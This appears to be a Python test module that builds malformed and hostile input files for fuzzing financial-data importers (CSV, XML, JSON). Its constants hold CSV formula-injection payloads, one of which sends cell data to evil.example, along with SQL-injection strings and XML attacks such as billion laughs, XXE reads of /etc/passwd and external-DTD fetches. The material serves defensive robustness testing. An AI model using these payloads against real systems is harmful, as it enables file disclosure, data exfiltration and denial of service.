"""The review's own corpus of malformed files, made from a valid seed, and hypothesis strategies that mutate it.

:func:`malformed` gives named variants every importer must refuse cleanly or read correctly: empty and
blank files, truncations (mid-line, mid-quote, mid-element), wrong encodings (UTF-16/32 with and without
BOM, invalid UTF-8, Latin-1), NUL bytes, wrong delimiters, huge fields and lines, many rows,
formula-injection cells, control and bidi characters, binary garbage; for XML the classic attacks
(billion laughs, quadratic blow-up, external entities to a file and to the network, external DTD,
parameter entities, deep nesting); for JSON deep nesting, huge and non-finite numbers, wrong top-level
types.
"""

from __future__ import annotations

import random

from hypothesis import strategies as st

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+1", "\r=1+1")
NASTY_TOKENS = (b'"', b"'", b",", b";", b"\t", b"|", b"\n", b"\r", b"\r\n", b"\x00", b"\xff", b"\xfe\xff", b"\xef\xbb\xbf",
                b"\xc3\x28", b"\xed\xa0\x80", b"\xe9", b"<", b">", b"&", b"&amp;", b"&x;", b"<!ENTITY x 'y'>",
                b"<!DOCTYPE d>", b"]]>", b"<![CDATA[", b"{", b"}", b"[", b"]", b":", b"\\", b"\\u0000", b"-", b".",
                b"0", b"9" * 30, b"1e999", b"NaN", b"-0", b"null", b"true", b"=cmd|' /C calc'!A0", b"\x1b[2J",
                "\u202e".encode(), "\U0001f4a9".encode(), b"%s%n", b"' OR '1'='1", b"'; DROP TABLE event; --")


def _rows(seed: bytes) -> list[bytes]:
    return seed.splitlines(keepends=True)


def text_variants(seed: bytes) -> list[tuple[str, bytes]]:
    """Variants for any text format (CSV, MT940, JSON, XML)."""
    text = seed.decode("utf-8")
    rows = _rows(seed)
    body = b"".join(rows[1:]) or seed
    rng = random.Random(7)
    out = [
        ("empty", b""),
        ("blank", b" \r\n\t\n  \n"),
        ("truncated_third", seed[: len(seed) // 3]),
        ("truncated_half", seed[: len(seed) // 2]),
        ("truncated_last_byte", seed[:-2]),
        ("truncated_mid_quote", seed[: seed.find(b'"', seed.find(b"\n") + 2) + 3] if b'"' in seed else seed[:7]),
        ("only_first_line", rows[0]),
        ("utf16_bom", text.encode("utf-16")),
        ("utf16le_no_bom", text.encode("utf-16-le")),
        ("utf32", text.encode("utf-32")),
        ("invalid_utf8", seed.replace(b"a", b"\xc3\x28", 3)),
        ("encoded_surrogate", seed.replace(b"e", b"\xed\xa0\x80", 2)),
        ("latin1", text.replace("a", "\u00e4").encode("latin-1", errors="replace")),
        ("nul_inside", seed[: len(seed) // 2] + b"\x00" + seed[len(seed) // 2:]),
        ("nul_first", b"\x00" + seed),
        ("double_bom", b"\xef\xbb\xbf\xef\xbb\xbf" + seed),
        ("cr_only", seed.replace(b"\r\n", b"\n").replace(b"\n", b"\r")),
        ("mixed_newlines", b"\r".join(seed.split(b"\n", 2))),
        ("huge_field", seed.replace(b"Globex", b"G" * 2_000_000, 1) if b"Globex" in seed else seed + b"A" * 2_000_000),
        ("huge_line", b"A" * 1_500_000),
        ("many_rows", rows[0] + body * 3000),
        ("control_chars", seed.replace(b"Globex", b"Glo\x1b[2J\x07bex\x08\x7f", 1)),
        ("bidi_override", seed.replace(b"Globex", "Glo\u202ebex\u200b".encode(), 1)),
        ("emoji", seed.replace(b"Globex", "Globex \U0001f4a9".encode(), 1)),
        ("binary_garbage", bytes(rng.randrange(256) for _ in range(4096))),
        ("sql_meta", seed.replace(b"Globex", b"Globex'); DROP TABLE event; --", 1)),
    ]
    return out


def csv_variants(seed: bytes) -> list[tuple[str, bytes]]:
    rows = _rows(seed)
    header = rows[0]
    delim = b";" if header.count(b";") > header.count(b",") else b","
    other = b"," if delim == b";" else b";"
    out = text_variants(seed) + [
        ("wrong_delimiter", seed.replace(delim, other)),
        ("tab_delimiter", seed.replace(delim, b"\t")),
        ("duplicate_header", header + seed),
        ("header_only", header),
        ("no_header", b"".join(rows[1:])),
        ("extra_columns", header + b"".join(r.rstrip(b"\r\n") + delim + b'"x"' + delim + b'"y"\r\n' for r in rows[1:])),
        ("missing_columns", header + b"".join(r.split(delim)[0] + b"\r\n" for r in rows[1:])),
        ("unbalanced_quote", header + rows[1].replace(b'"', b"", 1) if len(rows) > 1 else seed),
        ("quote_in_unquoted", seed.replace(b"Globex", b'Glo"bex', 1)),
        ("delimiter_in_value", seed.replace(b"Globex", b"Glo" + delim + b"bex", 1)),
    ]
    for n, formula in enumerate(FORMULAS):
        quoted = '"' + formula.replace('"', '""') + '"'
        out.append((f"formula_{n}", seed.replace(b"Globex LLC", quoted.encode()[1:-1], 1)
                    if b'"Globex LLC"' not in seed else seed.replace(b'"Globex LLC"', quoted.encode(), 1)))
    return out


XML_ATTACKS = {
    "billion_laughs": b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrStmt>&lol9;</BkToCstmrStmt></Document>
""",
    "quadratic_blowup": b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "' + b"A" * 50_000 + b'">]>'
                        b'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08">' + b"&a;" * 5_000
                        + b"</Document>",
    "xxe_file": b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrStmt><GrpHdr><MsgId>&xxe;</MsgId>
</GrpHdr></BkToCstmrStmt></Document>
""",
    "xxe_network": b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/secret">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrStmt>&xxe;</BkToCstmrStmt></Document>
""",
    "external_dtd": b"""<?xml version="1.0"?>
<!DOCTYPE Document SYSTEM "http://127.0.0.1:9/evil.dtd">
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrStmt/></Document>
""",
    "parameter_entity": b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"/>
""",
    "lowercase_doctype": b"""<?xml version="1.0"?>
<!doctype d [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrStmt>&xxe;</BkToCstmrStmt></Document>
""",
    "xinclude": b"""<?xml version="1.0"?>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08" xmlns:xi="http://www.w3.org/2001/XInclude">
<BkToCstmrStmt><xi:include href="file:///etc/passwd" parse="text"/></BkToCstmrStmt></Document>
""",
    "deep_nesting": b'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08">' + b"<a>" * 20_000
                    + b"</a>" * 20_000 + b"</Document>",
    "utf16_declared_utf8": '<?xml version="1.0" encoding="UTF-8"?><Document/>'.encode("utf-16"),
    "wrong_root": b'<?xml version="1.0"?><Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>',
    "no_namespace": b'<?xml version="1.0"?><Document><BkToCstmrStmt/></Document>',
}


def xml_variants(seed: bytes) -> list[tuple[str, bytes]]:
    out = text_variants(seed) + list(XML_ATTACKS.items())
    out += [
        ("unclosed_element", seed.replace(b"</Ntry>", b"", 1)),
        ("negative_amount", seed.replace(b">150.00<", b">-150.00<")),
        ("huge_amount", seed.replace(b">150.00<", b">" + b"9" * 400 + b".00<")),
        ("exponent_amount", seed.replace(b">150.00<", b">1E+999<")),
        ("nan_amount", seed.replace(b">150.00<", b">NaN<")),
        ("bad_date", seed.replace(b"2026-01-20</Dt></BookgDt>", b"2026-02-30</Dt></BookgDt>")),
        ("bad_currency", seed.replace(b'Ccy="USD">150.00', b'Ccy="ZZZ">150.00')),
        ("missing_currency", seed.replace(b' Ccy="USD">150.00', b">150.00")),
        ("cdata_injection", seed.replace(b"INV-US01-000001", b"<![CDATA[</Ustrd><Ustrd>x]]>")),
    ]
    return out


def json_variants(seed: bytes) -> list[tuple[str, bytes]]:
    return text_variants(seed) + [
        ("deep_array", b"[" * 100_000 + b"]" * 100_000),
        ("deep_object", b'{"a":' * 100_000 + b"1" + b"}" * 100_000),
        ("top_level_list", b"[1, 2, 3]"),
        ("top_level_string", b'"records"'),
        ("top_level_number", b"1e999"),
        ("nan", b'{"records": NaN}'),
        ("huge_int", b'{"records": [{"Id": ' + b"9" * 5000 + b"}]}"),
        ("records_not_list", b'{"records": {"Id": 1}}'),
        ("record_not_object", b'{"records": [1, "x", null]}'),
        ("duplicate_keys", b'{"records": [], "records": 5}'),
        ("nul_escape", seed.replace(b"Hooli", b"Hoo\\u0000li", 1)),
        ("lone_surrogate_escape", seed.replace(b"Hooli", b"Hoo\\ud800li", 1)),
    ]


@st.composite
def mutations(draw: st.DrawFn, seed: bytes) -> bytes:
    """A valid seed mutated a few times: truncation, byte flips, nasty insertions, deletions, duplications."""
    data = bytearray(seed)
    for _ in range(draw(st.integers(1, 4))):
        op = draw(st.sampled_from(("truncate", "flip", "insert", "delete", "duplicate", "token")))
        n = len(data)
        if n == 0:
            data.extend(draw(st.binary(max_size=64)))
            continue
        i = draw(st.integers(0, n - 1))
        if op == "truncate":
            del data[i:]
        elif op == "flip":
            data[i] = draw(st.integers(0, 255))
        elif op == "insert":
            data[i:i] = draw(st.binary(min_size=1, max_size=32))
        elif op == "delete":
            del data[i:i + draw(st.integers(1, 64))]
        elif op == "duplicate":
            j = draw(st.integers(i, min(n, i + 200)))
            data[j:j] = data[i:j] * draw(st.integers(1, 50))
        else:
            data[i:i] = draw(st.sampled_from(NASTY_TOKENS))
    return bytes(data)


def inputs(seed: bytes) -> st.SearchStrategy[bytes]:
    """Mutations of the seed, now and then plain random bytes."""
    return st.one_of(mutations(seed), mutations(seed), mutations(seed), st.binary(max_size=2048))
